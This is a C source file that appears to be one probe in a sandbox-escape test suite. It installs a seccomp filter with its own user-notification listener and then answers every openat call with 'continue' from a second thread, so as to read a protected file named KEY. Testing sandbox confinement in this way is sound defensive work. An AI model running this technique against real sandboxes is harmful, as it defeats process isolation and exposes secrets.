// Asks the kernel to be the one who decides its own calls: a filter with a listener, which answers
// that every open may go on. The newest filter's word would count before the compartment's.
// class: OS sandboxes: seccomp notification
// plain: leak
// journal: read {KEY}
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>

static int listener = -1;

static void let_go_on(void) {
  struct seccomp_notif asked = {0};
  while (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) == 0) {
    struct seccomp_notif_resp answer = {.id = asked.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    memset(&asked, 0, sizeof asked);
  }
}

static void* read_the_key(void* nothing) {
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof code / sizeof *code, code};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  const int made = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
  __atomic_store_n(&listener, made, __ATOMIC_RELEASE);
  if (made >= 0)
    effect("a listener of its own");
  else
    refused("a listener of its own");
  read_path(fact("KEY"));
  exit(0);
  return nothing;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  // The filter is the other thread's alone: this one answers.
  pthread_t reader;
  pthread_create(&reader, NULL, read_the_key, NULL);
  for (;;) {
    if (__atomic_load_n(&listener, __ATOMIC_ACQUIRE) >= 0) let_go_on();
    nap(1);
  }
}
